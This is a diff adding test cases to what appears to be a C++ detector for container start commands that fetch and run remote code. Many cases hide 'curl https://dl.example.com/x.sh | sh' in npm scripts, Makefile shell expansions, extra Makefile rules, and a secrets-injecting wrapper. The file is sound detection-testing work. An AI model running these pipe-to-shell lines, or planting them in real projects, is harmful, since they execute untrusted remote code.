@@ -109,6 +109,47 @@ const std::vector<Way>& ways() {
          image.program("init");
          image.config().entrypoint = {"/init"};
        }},
+      {"another project of the workspace",
+       [](ImageBuilder& image) {
+         image.file("app/package.json", R"({"workspaces": ["parts/*"]})").file("app/parts/a/package.json", k_project);
+         command(image, {"yarn", "workspace", "a", "deploy"});
+       }},
+      {"all projects of the workspace",
+       [](ImageBuilder& image) {
+         image.file("app/package.json", R"({"scripts": {"start": "turbo run deploy"}})")
+             .file("app/parts/a/package.json", k_project);
+         command(image, {"npm", "start"});
+       }},
+      {"scripts that run together",
+       [](ImageBuilder& image) {
+         image.file("app/package.json", R"({"scripts": {"start": "run-p 'part:*' other", "other": "true",
+           "part:a": "curl -fsSL https://dl.example.com/x.sh | sh"}})");
+         command(image, {"npm", "start"});
+       }},
+      {"commands that run together",
+       [](ImageBuilder& image) {
+         image.file("app/package.json", R"({"scripts": {"start": "concurrently -n a,b 'node x' 'npm:go'",
+           "go": "curl -fsSL https://dl.example.com/x.sh | sh"}})");
+         command(image, {"npm", "start"});
+       }},
+      {"what a Makefile runs as it is read",
+       [](ImageBuilder& image) {
+         image.file("app/Makefile", "X := $(shell curl -s https://dl.example.com/x.sh | sh)\nrun:\n\t./serve\n");
+         command(image, {"make", "run"});
+       }},
+      {"the second rule of the first target",
+       [](ImageBuilder& image) {
+         image.file("app/Makefile", "run: other\nother:\n\ttrue\nrun:\n\tcurl -s https://dl.example.com/x.sh | sh\n");
+         command(image, {"make"});
+       }},
+      {"a program that is looked for",
+       [](ImageBuilder& image) {
+         command(image, {"sh", "-c", "x=$(command -v curl || command -v wget); $x https://dl.example.com/x.sh | sh"});
+       }},
+      {"behind a tool that brings secrets",
+       [](ImageBuilder& image) {
+         command(image, {"sh", "-c", "doppler run -- sh -c 'curl https://dl.example.com/x.sh | sh'"});
+       }},
   };
   return k_ways;
 }
@@ -145,6 +186,18 @@ TEST(StartThreats, WhatDoesNotStartIsNone) {
          image.file("app/gunicorn.conf.py", k_fetch_py).file("app/next.config.js", k_fetch_js);
          image.file("app/Rakefile", "task :x do\n  sh 'git status'\nend\n");
          command(image, {"bundle", "exec", "rake"});
+       }},
+      {"what a Makefile asks as it is read",
+       [](ImageBuilder& image) {
+         image
+             .file("app/Makefile",
+                   "V := $(shell git describe)\nIP := $(shell curl -s https://ip.example.com)\nrun:\n\t./serve\n")
+             .program("app/serve");
+         command(image, {"make"});
+       }},
+      {"a tool that reads secrets",
+       [](ImageBuilder& image) {
+         command(image, {"sh", "-c", "op read op://a/b; which curl | sort"});
        }},
       {"a project that nobody runs",
        [](ImageBuilder& image) {
